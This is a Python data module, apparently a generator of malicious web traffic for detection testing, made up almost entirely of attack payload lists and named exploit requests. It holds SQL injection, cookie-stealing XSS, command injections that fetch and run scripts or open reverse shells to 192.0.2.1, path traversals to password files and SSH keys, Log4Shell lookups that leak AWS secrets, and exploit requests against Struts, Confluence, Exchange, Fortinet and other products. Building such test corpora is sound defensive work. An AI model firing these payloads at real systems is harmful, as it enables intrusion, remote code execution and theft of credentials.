# SPDX-License-Identifier: Apache-2.0
"""Attacks of every common family, in their usual encodings, and exploits of well-known products.

Own wording: each line is what such an attack has to hold, not a copy of a published one. A payload of the generic
families stands in several places and encodings (``spread``); the exploits are requests of their own:
``METHOD TARGET ¦ HEADER ¦ HEADER ¦¦ BODY``.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from random import Random
from urllib.parse import quote, quote_plus

from benign import SEED
from clients import CHROME, DESKTOPS

SQL = """
1' OR '1'='1
1' or 1=1-- -
admin'--
admin' #
' OR 'x'='x' /*
") or ("a"="a
1) OR (1=1
7 AND 3=3
1 UNION SELECT NULL,NULL,NULL--
-1' UNION ALL SELECT 1,group_concat(table_name),3 FROM information_schema.tables-- -
0 union select user,password from mysql.user
1' union/**/select/**/1,concat(user(),0x3a,version()),3%23
1'/*!50000UNION*//*!50000SELECT*/1,2,3--
1; DROP TABLE users--
1'; DROP TABLE members; --
1;INSERT INTO admins(name,pass) VALUES('x','y')--
1 AND SLEEP(5)
1' AND (SELECT 7 FROM (SELECT(SLEEP(5)))a)-- -
1';WAITFOR DELAY '0:0:5'--
1' AND 7=(SELECT 7 FROM PG_SLEEP(5))--
1 and benchmark(9000000,md5(1))
1' AND EXTRACTVALUE(1,CONCAT(0x5c,(SELECT database())))-- -
1 and updatexml(1,concat(0x7e,user()),1)
1' AND 1=CONVERT(int,(SELECT @@version))--
1;EXEC master..xp_cmdshell 'whoami'
1; exec xp_dirtree '\\\\192.0.2.1\\a'
1' UNION SELECT '<?php system($_GET[0])?>' INTO OUTFILE '/var/www/x.php'-- -
1 union select load_file('/etc/passwd'),2
1' AND ascii(substring((SELECT password FROM users LIMIT 1),1,1))>64--
1' ORDER BY 10--
1' AND 5821=5821 AND 'a'='a
1' HAVING 1=1--
x' AND email IS NULL; --
1' AND (SELECT COUNT(*) FROM sysobjects)>0--
1||UTL_HTTP.REQUEST('http://192.0.2.1/'||(SELECT user FROM dual))
1' AND dbms_pipe.receive_message('a',5)='a
1;COPY (SELECT '') TO PROGRAM 'id'
""".strip().splitlines()

XSS = """
<script>alert(1)</script>
"><script>alert(document.cookie)</script>
<ScRiPt>alert(/x/)</sCrIpT>
<script src=//192.0.2.1/x.js></script>
<img src=x onerror=alert(1)>
<img/src/onerror=alert(1)>
"><svg/onload=alert(1)>
<svg><script>alert&#40;1)</script>
<body onload=alert('x')>
<iframe src="javascript:alert(1)"></iframe>
<a href="javascript:document.location='http://192.0.2.1/?'+document.cookie">x</a>
'-alert(1)-'
"onmouseover="alert(1)
"autofocus onfocus=alert(1) x="
<details open ontoggle=prompt(1)>
<video><source onerror=confirm(1)>
<input onfocus=eval(atob('YWxlcnQoMSk=')) autofocus>
<marquee onstart=alert(1)>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
<embed src="javascript:alert(1)">
<math><mtext><img src=x onerror=alert(1)></mtext></math>
<script>new Image().src='http://192.0.2.1/c?'+document.cookie</script>
<script>fetch('//192.0.2.1/'+localStorage.token)</script>
javascript:alert(document.domain)
""".strip().splitlines()

COMMANDS = """
127.0.0.1;cat /etc/passwd
127.0.0.1|id
127.0.0.1&&whoami
127.0.0.1`id`
$(id)
;uname -a;
|cat /etc/shadow
||cat /etc/passwd
x;ls -la /
x;wget http://192.0.2.1/a.sh -O /tmp/a;sh /tmp/a
x|curl http://192.0.2.1/a|bash
x;curl -s http://192.0.2.1/a | sh
$(wget -qO- http://192.0.2.1/a|sh)
;nc -e /bin/sh 192.0.2.1 4444
;bash -i >& /dev/tcp/192.0.2.1/4444 0>&1
;cat${IFS}/etc/passwd
;{cat,/etc/passwd}
;/bin/bash -c 'id'
;ping -c 5 192.0.2.1;
|nslookup x.192.0.2.1.example
& net user x y /add
| type c:\\windows\\win.ini
;powershell -enc SQBFAFgA
;python3 -c 'import socket,os,pty;pty.spawn("/bin/sh")'
;perl -e 'use Socket;exec("/bin/sh -i")'
;rm -rf /tmp/*;busybox wget http://192.0.2.1/m
;echo cHduZWQ=|base64 -d|sh
;cd /tmp;tftp -g -r x 192.0.2.1;chmod 777 x;./x
""".strip().splitlines()

TRAVERSAL = """
../../../../etc/passwd
../../../../../../etc/shadow
....//....//....//etc/passwd
..\\..\\..\\windows\\win.ini
../../../../proc/self/environ
/etc/passwd
file:///etc/passwd
../../../../etc/passwd%00.jpg
..%252f..%252f..%252fetc%252fpasswd
..%c0%af..%c0%afetc/passwd
%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd
%2e%2e/%2e%2e/%2e%2e/etc/passwd
..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts
c:\\boot.ini
/var/www/../../etc/passwd
../../../../var/log/apache2/access.log
../../../wp-config.php
..;/..;/..;/etc/passwd
php://filter/convert.base64-encode/resource=index.php
php://input
data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+
expect://id
phar:///tmp/x.jpg
zip:///tmp/a.zip%23x.php
/proc/self/cmdline
../../../../home/deploy/.ssh/id_rsa
""".strip().splitlines()

TEMPLATES = """
{{config.__class__.__init__.__globals__['os'].popen('id').read()}}
{{''.__class__.__mro__[1].__subclasses__()}}
{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id')}}
${T(java.lang.Runtime).getRuntime().exec('id')}
#{T(java.lang.Runtime).getRuntime().exec('id')}
*{T(java.lang.Runtime).getRuntime().exec('id')}
<#assign x="freemarker.template.utility.Execute"?new()>${x("id")}
${"freemarker.template.utility.Execute"?new()("id")}
{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}
{php}system('id');{/php}
{system('id')}
<%= system('id') %>
<%= `id` %>
#set($x=$rt.getRuntime().exec('id'))#set($c=$class.inspect("java.lang.Runtime"))
${jndi:ldap://192.0.2.1:1389/a}
${${lower:j}ndi:${lower:l}dap://192.0.2.1/a}
${${::-j}${::-n}${::-d}${::-i}:rmi://192.0.2.1/a}
${jndi:dns://192.0.2.1/${env:AWS_SECRET_ACCESS_KEY}}
${script:javascript:java.lang.Runtime.getRuntime().exec('id')}
%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}
""".strip().splitlines()

EXPLOITS = """
phf: GET /cgi-bin/phf?Qalias=x%0a/bin/cat%20/etc/passwd
test-cgi: GET /cgi-bin/test-cgi?*%0acat%20/etc/passwd
code-red: GET /default.ida?NNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNN%u9090%u6858%ucbd3%u7801=a
nimda-1: GET /scripts/root.exe?/c+dir
nimda-2: GET /scripts/..%255c../winnt/system32/cmd.exe?/c+dir
nimda-3: GET /_vti_bin/..%5c../..%5c../winnt/system32/cmd.exe?/c+dir
nimda-4: GET /scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir
nimda-5: GET /msadc/..%c0%af../..%c0%af../winnt/system32/cmd.exe?/c+dir+c:\\
unicode: GET /scripts/..%u2216..%u2216winnt/system32/cmd.exe?/c+dir
shellshock-agent: GET /cgi-bin/status ¦ User-Agent: () { :;}; /bin/bash -c 'id'
shellshock-referer: GET /cgi-bin/test.sh ¦ Referer: () { ignored; }; echo; /usr/bin/id
shellshock-cookie: GET /cgi-bin/x.cgi ¦ Cookie: x=() { :; }; wget http://192.0.2.1/a
shellshock-header: GET / ¦ X-Test: () { _; } >_[$($())] { id; }
php-cgi: POST /cgi-bin/php?-d+allow_url_include%3Don+-d+auto_prepend_file%3Dphp%3A%2F%2Finput ¦¦ <?php system('id'); ?>
php-cgi-windows: POST /index.php?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input ¦¦ <?php phpinfo(); ?>
php-cgi-encoded: POST /cgi-bin/php5?%2D%64+%61%6C%6C%6F%77%5F%75%72%6C%5F%69%6E%63%6C%75%64%65%3D%6F%6E ¦¦ <?php system('id'); ?>
php-cgi-source: GET /index.php?-s
php-zerodium: GET / ¦ User-Agentt: zerodiumsystem('id');
php-fpm: GET /index.php/PHP%0Ais_the_shittiest_lang.php?QQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQ
phpunit: POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php ¦¦ <?php echo md5('x');
phpunit-lib: GET /lib/phpunit/Util/PHP/eval-stdin.php
thinkphp-5: GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id
thinkphp-display: GET /?s=index/\\think\\view\\driver\\Php/display&content=%3C?php%20system(%27id%27);?%3E
thinkphp-construct: POST /index.php?s=captcha ¦¦ _method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]=id
thinkphp-lang: GET /index.php?lang=../../../../../usr/local/lib/php/pearcmd&+config-create+/&/<?=phpinfo()?>+/tmp/x.php
drupalgeddon-1: POST /?q=node&destination=node ¦¦ name[0;update+users+set+name='x'+where+uid=1;#]=a&name[0]=b&pass=c&form_id=user_login_block
drupalgeddon-2: POST /user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax ¦¦ form_id=user_register_form&_drupal_ajax=1&mail[#post_render][]=exec&mail[#type]=markup&mail[#markup]=id
drupalgeddon-2-seven: POST /?q=user/password&name[%23post_render][]=passthru&name[%23type]=markup&name[%23markup]=id ¦¦ form_id=user_pass&_triggering_element_name=name
drupal-rest: GET /node/1?_format=hal_json ¦ Content-Type: application/hal+json ¦¦ {"link":[{"value":"link","options":"O:24:\\"GuzzleHttp\\\\Psr7\\\\FnStream\\":2:{s:33:\\"x\\";s:2:\\"id\\";}"}],"_links":{"type":{"href":"http://h/rest/type/shortcut/default"}}}
joomla-object: GET / ¦ User-Agent: }__test|O:21:"JDatabaseDriverMysqli":3:{s:2:"fc";O:17:"JSimplepieFactory":0:{}}
joomla-fields: GET /index.php?option=com_fields&view=fields&layout=modal&list[fullordering]=updatexml(1,concat(0x3e,user()),0)
joomla-api: GET /api/index.php/v1/config/application?public=true
wordpress-revslider: GET /wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php
wordpress-filemanager: POST /wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php ¦ Content-Type: multipart/form-data; boundary=xx ¦¦ --xx\\r\\nContent-Disposition: form-data; name="cmd"\\r\\n\\r\\nupload\\r\\n--xx\\r\\nContent-Disposition: form-data; name="upload[]"; filename="x.php"\\r\\n\\r\\n<?php system($_GET["c"]); ?>\\r\\n--xx--\\r\\n
wordpress-duplicator: GET /wp-admin/admin-ajax.php?action=duplicator_download&file=../wp-config.php
wordpress-simplelink: GET /wp-content/plugins/simple-file-list/includes/ee-downloader.php?eeFile=../../../../wp-config.php
wordpress-timthumb: GET /wp-content/themes/x/timthumb.php?src=http://flickr.com.192.0.2.1/x.php
wordpress-restuser: POST /wp-json/wp/v2/posts/1?id=1abc ¦ Content-Type: application/json ¦¦ {"id":"1abc","content":"<script src=//192.0.2.1/x.js></script>"}
wordpress-mailpress: GET /wp-content/plugins/mail-masta/inc/campaign/count_of_send.php?pl=/etc/passwd
wordpress-bricks: POST /wp-json/bricks/v1/render_element ¦ Content-Type: application/json ¦¦ {"postId":"1","nonce":"x","element":{"name":"container","settings":{"hasLoop":"true","query":{"useQueryEditor":true,"queryEditor":"throw new Exception(`id`);"}}}}
wordpress-xmlrpc-multicall: POST /xmlrpc.php ¦ Content-Type: text/xml ¦¦ <?xml version="1.0"?><methodCall><methodName>system.multicall</methodName><params><param><value><array><data><value><struct><member><name>methodName</name><value>wp.getUsersBlogs</value></member></struct></value></data></array></value></param></params></methodCall>
magento-shoplift: POST /index.php/admin/Cms_Wysiwyg/directive/index/ ¦¦ filter=cG9wdWxhcml0eVtmcm9tXT0w&___directive=e3tibG9jayB0eXBlPUFkbWluaHRtbC9yZXBvcnRfc2VhcmNoX2dyaWR9fQ&forwarded=1
magento-template: POST /rest/default/V1/guest-carts/x/estimate-shipping-methods ¦ Content-Type: application/json ¦¦ {"address":{"totalsCollector":{"collectorList":{"totalCollector":{"sourceData":{"data":"http://192.0.2.1/x.dtd","options":16}}}}}}
vbulletin-widget: POST /ajax/render/widget_php ¦¦ widgetConfig[code]=echo shell_exec('id'); exit;
vbulletin-tabbed: POST /ajax/render/widget_tabbedcontainer_tab_panel ¦¦ subWidgets[0][template]=widget_php&subWidgets[0][config][code]=phpinfo();
phpmyadmin-setup: POST /phpmyadmin/scripts/setup.php ¦¦ action=lay_navigation&eoltype=unix&token=x&configuration=a:1:{i:0;O:10:"PMA_Config":1:{s:6:"source";s:11:"/etc/passwd";}}
phpmyadmin-include: GET /phpmyadmin/index.php?target=db_sql.php%253f/../../../../../../etc/passwd
laravel-ignition: POST /_ignition/execute-solution ¦ Content-Type: application/json ¦¦ {"solution":"Facade\\\\Ignition\\\\Solutions\\\\MakeViewVariableOptionalSolution","parameters":{"variableName":"x","viewFile":"php://filter/write=convert.iconv.utf-8.utf-16be/resource=../storage/logs/laravel.log"}}
struts-content-type: GET /index.action ¦ Content-Type: %{(#x='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}
struts-redirect: GET /login.action?redirect:${%23a%3d(new%20java.lang.ProcessBuilder(new%20java.lang.String[]{%27id%27})).start()}
struts-method: GET /index.action?method:%23_memberAccess%3d@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS,%23a%3d1
struts-namespace: GET /%24%7B%28%23dm%3D%40ognl.OgnlContext%40DEFAULT_MEMBER_ACCESS%29.%28%23cmd%3D%27id%27%29%7D/help.action
struts-body: POST /integration/save.action ¦¦ id=%25%7b(%23instancemanager%3d%23application%5b%22org.apache.tomcat.InstanceManager%22%5d)%7d
struts-xstream: POST /orders/3 ¦ Content-Type: application/xml ¦¦ <map><entry><jdk.nashorn.internal.objects.NativeString><value class="java.lang.ProcessBuilder"><command><string>id</string></command></value></jdk.nashorn.internal.objects.NativeString></entry></map>
spring4shell: POST /login ¦¦ class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp
spring4shell-query: GET /?class.module.classLoader.DefaultAssertionStatus=x
spring-cloud-function: POST /functionRouter ¦ spring.cloud.function.routing-expression: T(java.lang.Runtime).getRuntime().exec("id") ¦¦ x
spring-gateway: POST /actuator/gateway/routes/x ¦ Content-Type: application/json ¦¦ {"id":"x","filters":[{"name":"AddResponseHeader","args":{"name":"R","value":"#{new String(T(java.lang.Runtime).getRuntime().exec('id'))}"}}],"uri":"http://a"}
spring-data: POST /users?page=&size=5 ¦¦ username[#this.getClass().forName("java.lang.Runtime").getRuntime().exec("id")]=x&password=
spring-jolokia: GET /actuator/jolokia/exec/ch.qos.logback.classic:Name=default,Type=ch.qos.logback.classic.jmx.JMXConfigurator/reloadByURL/http:!/!/192.0.2.1!/x.xml
log4j-agent: GET / ¦ User-Agent: ${jndi:ldap://192.0.2.1/a}
log4j-forwarded: GET / ¦ X-Forwarded-For: ${jndi:${lower:l}${lower:d}a${lower:p}://192.0.2.1/a}
log4j-auth: GET / ¦ Authorization: Bearer ${jndi:rmi://192.0.2.1/a}
log4j-env: GET / ¦ X-Api-Version: ${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//192.0.2.1/a}
log4j-cookie: GET / ¦ Cookie: session=${jndi:ldap://192.0.2.1/a}
log4j-path: GET /$%7Bjndi:ldap://192.0.2.1/a%7D
log4j-json: POST /api/login ¦ Content-Type: application/json ¦¦ {"user":"${jndi:ldap://192.0.2.1/a}","password":"x"}
log4j-form: POST /login ¦¦ user=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.1%2Fa%7D&password=x
text4shell: GET /search?q=%24%7Bscript%3Ajavascript%3Ajava.lang.Runtime.getRuntime%28%29.exec%28%27id%27%29%7D
confluence-ognl: GET /%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/
confluence-queryString: POST /pages/doenterpagevariables.action ¦¦ queryString=%5cu0027%2b%7bClass.forName%28%5cu0027javax.script.ScriptEngineManager%5cu0027%29.newInstance%28%29%7d%2b%5cu0027
confluence-setup: GET /server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false
confluence-template: POST /template/aui/text-inline.vm ¦¦ label=\\u0027%2b#request\\u005b\\u0027.KEY_velocity.struts2.context\\u0027\\u005d.internalGet(\\u0027ognl\\u0027).findValue(#parameters.x,{})%2b\\u0027&x=@org.apache.struts2.ServletActionContext@getResponse().setHeader('x',(new freemarker.template.utility.Execute()).exec({"id"}))
confluence-widget: POST /rest/tinymce/1/macro/preview ¦ Content-Type: application/json ¦¦ {"contentId":"1","macro":{"name":"widget","params":{"url":"https://www.viddler.com/v/x","_template":"../web.xml"},"body":""}}
jira-contact: POST /secure/ContactAdministrators.jspa ¦¦ subject=$i18n.getClass().forName('java.lang.Runtime').getMethod('getRuntime',null).invoke(null,null).exec('id')
weblogic-wls: POST /wls-wsat/CoordinatorPortType ¦ Content-Type: text/xml ¦¦ <soapenv:Envelope><soapenv:Header><work:WorkContext><java><void class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>id</string></void></array><void method="start"/></void></java></work:WorkContext></soapenv:Header></soapenv:Envelope>
weblogic-async: POST /_async/AsyncResponseService ¦ Content-Type: text/xml ¦¦ <x><java version="1.8"><class><string>oracle.toplink.internal.sessions.UnitOfWorkChangeSet</string><void class="java.lang.ProcessBuilder"/></class></java></x>
weblogic-console: GET /console/css/%252e%252e%252fconsole.portal?_nfpb=true&_pageLabel=&handle=com.tangosol.coherence.mvel2.sh.ShellSession(%22java.lang.Runtime.getRuntime().exec(%27id%27);%22)
weblogic-console-simple: GET /console/images/%252E%252E%252Fconsole.portal
tomcat-put: PUT /x.jsp/ ¦¦ <% Runtime.getRuntime().exec(request.getParameter("c")); %>
tomcat-jsp-session: PUT /x/session ¦ Content-Range: bytes 0-5/10 ¦¦ \\xac\\xed\\x00\\x05sr\\x00\\x11java.util.HashSet
jboss-invoker: POST /invoker/JMXInvokerServlet ¦ Content-Type: application/x-java-serialized-object; class=org.jboss.invocation.MarshalledInvocation ¦¦ \\xac\\xed\\x00\\x05sr\\x00)org.jboss.invocation.MarshalledInvocation
jboss-readonly: POST /invoker/readonly ¦¦ \\xac\\xed\\x00\\x05sr\\x00\\x11java.util.HashSet
jboss-jmx: GET /jmx-console/HtmlAdaptor?action=invokeOp&name=jboss.admin:service=DeploymentFileRepository&methodIndex=5&arg0=x.war&arg1=x&arg2=.jsp
jenkins-script: GET /securityRealm/user/admin/descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript?sandbox=true&value=public+class+x+{public+x(){"id".execute()}}
jenkins-scripttext: POST /scriptText ¦¦ script=println+%22id%22.execute().text
jenkins-cli: POST /cli?remoting=false ¦ Session: x ¦ Side: upload ¦¦ \\x00\\x00\\x00\\x06\\x00\\x00\\x04help\\x00\\x00\\x00\\x0e\\x00\\x00\\x0c@/etc/passwd
solr-velocity: GET /solr/core/select?q=1&wt=velocity&v.template=custom&v.template.custom=%23set($x=%27%27)+%23set($rt=$x.class.forName(%27java.lang.Runtime%27))
solr-dataimport: POST /solr/core/dataimport ¦¦ command=full-import&dataConfig=<dataConfig><script><![CDATA[function f1(){java.lang.Runtime.getRuntime().exec("id");}]]></script></dataConfig>
elastic-groovy: POST /_search ¦ Content-Type: application/json ¦¦ {"size":1,"script_fields":{"x":{"script":"java.lang.Math.class.forName(\\"java.lang.Runtime\\").getRuntime().exec(\\"id\\").getText()"}}}
elastic-traversal: GET /_plugin/head/../../../../../../etc/passwd
kibana-timelion: POST /api/timelion/run ¦ Content-Type: application/json ¦¦ {"sheet":[".es(*).props(label.__proto__.env.AAAA='require(\\"child_process\\").exec(\\"id\\");//')"]}
grafana-plugin: GET /public/plugins/alertlist/../../../../../../../../etc/passwd
druid-javascript: POST /druid/indexer/v1/sampler ¦ Content-Type: application/json ¦¦ {"type":"index","spec":{"dataSchema":{"parser":{"parseSpec":{"format":"javascript","function":"function(value){return {x:new java.util.Scanner(java.lang.Runtime.getRuntime().exec(\\"id\\").getInputStream()).next()}}","":{"enabled":true}}}}}}
airflow-trigger: POST /api/experimental/dags/example_trigger_target_dag/dag_runs ¦ Content-Type: application/json ¦¦ {"conf":{"message":"\\";id;#"}}
activemq-put: MOVE /fileserver/x.txt ¦ Destination: file:///opt/activemq/webapps/admin/x.jsp
ofbiz-xmlrpc: POST /webtools/control/xmlrpc;/?USERNAME=&PASSWORD=s&requirePasswordChange=Y ¦ Content-Type: application/xml ¦¦ <methodCall><params><param><value><struct><member><value><serializable xmlns="http://ws.apache.org/xmlrpc/namespaces/extensions">rO0ABXNyAA==</serializable></value></member></struct></value></param></params></methodCall>
ofbiz-programexport: POST /webtools/control/ProgramExport;/?USERNAME&PASSWORD=s&requirePasswordChange=Y ¦¦ groovyProgram=throw+new+Exception('id'.execute().text);
geoserver-ows: GET /geoserver/wfs?service=WFS&version=2.0.0&request=GetPropertyValue&typeNames=sf:archsites&valueReference=exec(java.lang.Runtime.getRuntime(),'id')
exchange-proxyshell: GET /autodiscover/autodiscover.json?@x.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@x.example
exchange-proxyshell-powershell: POST /autodiscover/autodiscover.json?a=x@x.example/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9z ¦¦ x
exchange-proxylogon: POST /ecp/y.js ¦ Cookie: X-BEResource=localhost/autodiscover/autodiscover.xml?a=~1942062522 ¦¦ x
sharepoint-toolpane: POST /_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx ¦ Referer: /_layouts/SignOut.aspx ¦¦ MSOTlPn_DWP=%3C%25%40+Register+Tagprefix%3D%22x%22+%25%3E
telerik-upload: POST /Telerik.Web.UI.WebResource.axd?type=rau ¦¦ rauPostData=x
dotnetnuke-cookie: GET /not-there ¦ Cookie: DNNPersonalization=<profile><item key="x" type="System.Data.Services.Internal.ExpandedWrapper`2[[System.Web.UI.ObjectStateFormatter]]"><ObjectDataProvider/></item></profile>
iis-webdav: PROPFIND / ¦ If: <http://localhost/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa> (Not <locktoken:write1>)
iis-range: GET / ¦ Range: bytes=0-18446744073709551615
iis-translate: GET /default.asp\\ ¦ Translate: f
iis-htr: GET /global.asa+.htr
iis-idq: GET /x.idq?CiTemplate=/../../../../../winnt/win.ini
frontpage-dvw: GET /_vti_bin/_vti_aut/dvwssr.dll?/../../global.asa
apache-249: GET /cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd
apache-250: POST /cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh ¦¦ echo;id
apache-modproxy: GET /?unix:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA|http://192.0.2.1/
nginx-alias: GET /assets../etc/passwd
citrix-adc: GET /vpn/../vpns/cfg/smb.conf
citrix-newbm: POST /vpn/../vpns/portal/scripts/newbm.pl ¦ NSC_USER: ../../../netscaler/portal/templates/x ¦ NSC_NONCE: x ¦¦ url=http://a&title=[%25+template.new({'BLOCK'%3d'print+`id`'})+%25]&desc=x
f5-tmui: GET /tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd
f5-tmui-shell: GET /tmui/login.jsp/..;/tmui/locallb/workspace/tmshCmd.jsp?command=list+auth+user+admin
f5-icontrol: POST /mgmt/tm/util/bash ¦ Content-Type: application/json ¦ X-F5-Auth-Token: a ¦ Connection: X-F5-Auth-Token ¦¦ {"command":"run","utilCmdArgs":"-c id"}
pulse-secure: GET /dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/
ivanti-license: GET /api/v1/totp/user-backup-code/../../license/keys-status/;curl%20192.0.2.1%7Csh;
ivanti-epmm: GET /mifs/aad/api/v2/authorized/users?adminDeviceSpaceId=1
fortinet-lang: GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession
fortinet-auth: GET /api/v2/cmdb/system/admin ¦ User-Agent: Report Runner ¦ Forwarded: for="[127.0.0.1]:8000";by="[127.0.0.1]:9000";
paloalto-session: POST /global-protect/login.esp ¦ Cookie: SESSID=/../../../opt/panlogs/tmp/device_telemetry/minute/`curl${IFS}192.0.2.1`; ¦¦ x
vmware-ovf: POST /ui/vropspluginui/rest/services/uploadova ¦¦ x
vmware-ssrf: GET /eam/vib?id=C:\\ProgramData\\VMware\\vCenterServer\\cfg\\vmware-vpx\\vcdb.properties
vmware-template: GET /catalog-portal/ui/oauth/verify?error=&deviceUdid=%24%7B%22freemarker.template.utility.Execute%22%3Fnew%28%29%28%22id%22%29%7D
manageengine-adself: POST /./RestAPI/LogonCustomization ¦¦ methodToCall=unspecified&Save=yes
zimbra-mboximport: POST /service/extension/backup/mboximport?account-name=admin&ow=2&no-switch=1&append=1 ¦¦ PK\\x03\\x04../../../../mailboxd/webapps/zimbraAdmin/x.jsp
zimbra-lfi: GET /res/I18nMsg,AjxMsg.js.zgz?v=1&skin=../../../../../../../../../opt/zimbra/conf/localconfig.xml%00
moveit-sql: POST /guestaccess.aspx ¦ X-siLock-Transaction: folder_add_by_path ¦ X-siLock-SessVar0: MyPkgSelfProvisionedRecips: x'); INSERT INTO activesessions values ('a'); -- ¦¦ x
gitlab-exif: POST /uploads/user ¦ Content-Type: multipart/form-data; boundary=xx ¦¦ --xx\\r\\nContent-Disposition: form-data; name="file"; filename="x.jpg"\\r\\n\\r\\nAT&TFORM\\x00\\x00\\x03\\xafDJVMANTa(metadata (Copyright "\\\\\\n" . qx{id} . \\\\\\n" b ") )\\r\\n--xx--\\r\\n
nextjs-middleware: GET /admin ¦ x-middleware-subrequest: middleware:middleware:middleware:middleware:middleware
react-proto: POST / ¦ Next-Action: x ¦ Content-Type: application/json ¦¦ {"then":"$1:__proto__:then","status":"resolved_model","value":"{}"}
node-proto: POST /api/user ¦ Content-Type: application/json ¦¦ {"__proto__":{"isAdmin":true,"shell":"/proc/self/exe"}}
node-serialize: GET / ¦ Cookie: profile={"x":"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"}
node-body: POST /calc ¦¦ x=require('child_process').execSync('id').toString()
rails-yaml: POST /users ¦ Content-Type: application/xml ¦¦ <?xml version="1.0"?><bang type="yaml">--- !ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection 'x; system("id")': !ruby/object:OpenStruct {}</bang>
rails-accept: GET /robots ¦ Accept: ../../../../../../../../etc/passwd{{
python-pickle: POST /load ¦¦ cposix\\nsystem\\n(S'id'\\ntR.
java-serial: POST /api/remote ¦ Content-Type: application/octet-stream ¦¦ \\xac\\xed\\x00\\x05sr\\x00\\x2eorg.apache.commons.collections.map.LazyMap
java-serial-base64: POST /faces/login.xhtml ¦¦ javax.faces.ViewState=rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9uLkFubm90YXRpb25JbnZvY2F0aW9uSGFuZGxlcg==
shiro-remember: GET / ¦ Cookie: rememberMe=deleteMe; JSESSIONID=x ¦ X-Class: yv66vgAAADQ= ¦ Content-Type: ${(#a=@java.lang.Runtime@getRuntime().exec('id'))}
fastjson: POST /json ¦ Content-Type: application/json ¦¦ {"x":{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://192.0.2.1/a","autoCommit":true}}
jackson: POST /json ¦ Content-Type: application/json ¦¦ ["ch.qos.logback.core.db.JNDIConnectionSource",{"jndiLocation":"ldap://192.0.2.1/a"}]
snakeyaml: POST /config ¦ Content-Type: application/x-yaml ¦¦ !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://192.0.2.1/"]]]]
xxe-file: POST /xml ¦ Content-Type: application/xml ¦¦ <?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>
xxe-parameter: POST /xml ¦ Content-Type: text/xml ¦¦ <!DOCTYPE x [<!ENTITY % r SYSTEM "http://192.0.2.1/x.dtd">%r;%s;]><x/>
xxe-php: POST /soap ¦ Content-Type: text/xml ¦¦ <!DOCTYPE x [<!ENTITY y SYSTEM "php://filter/convert.base64-encode/resource=/etc/passwd">]><x>&y;</x>
xxe-expect: POST /xml ¦ Content-Type: application/xml ¦¦ <!DOCTYPE x [<!ENTITY y SYSTEM "expect://id">]><x>&y;</x>
xxe-bomb: POST /xml ¦ Content-Type: application/xml ¦¦ <!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;">]><x>&c;</x>
xinclude: POST /xml ¦ Content-Type: application/xml ¦¦ <x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></x>
ssrf-metadata: GET /fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/
ssrf-metadata-encoded: GET /proxy?u=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F
ssrf-gcp: GET /img?src=http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token
